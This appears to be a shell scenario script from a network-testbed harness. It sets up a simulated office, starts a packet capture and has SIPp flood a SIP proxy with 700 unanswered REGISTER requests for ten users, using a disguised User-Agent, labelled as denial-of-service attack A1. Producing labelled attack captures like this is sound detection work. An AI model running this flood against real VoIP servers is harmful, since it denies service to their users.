# SIPp floods the proxy with REGISTERs of ten users, again and again, and answers no challenge.
open_office
add_attacker registrant 203.0.113.111
start_office_capture
keep_alive 9
office_day 112 60
printf '%s\n' SEQUENTIAL >"$scratch/flooded.csv"
for user in 1001 1002 1003 1004 1005 1006 1007 1008 1009 1010; do echo "$user;" >>"$scratch/flooded.csv"; done
sed 's/\[service\]/[field0]/g; s/User-Agent: .*/User-Agent: Z 5.5.14 rv2.10.19.4/' "$here/sipp/flood-register.xml" >"$scratch/flood.xml"
at 15 attack A1 dos registrant 5060 "SIPp sends 700 REGISTERs of ten users, 120 a second, and answers no challenge." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none -inf "$scratch/flooded.csv" \
    -i 203.0.113.111 -p 5060 -r 120 -m 700 192.0.2.1:5060
play
wait_for A1
close_office
